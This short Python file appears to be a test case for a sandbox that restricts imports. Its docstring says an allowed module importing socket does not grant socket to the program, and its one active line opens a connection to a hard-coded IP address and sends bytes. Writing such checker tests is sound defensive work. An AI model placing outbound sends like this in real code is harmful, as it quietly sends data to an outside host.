"""asyncio, which is allowed, has imported socket: that does not allow it to the program."""
import asyncio
import socket

socket.create_connection(("93.184.216.35", 9000)).sendall(b"data")
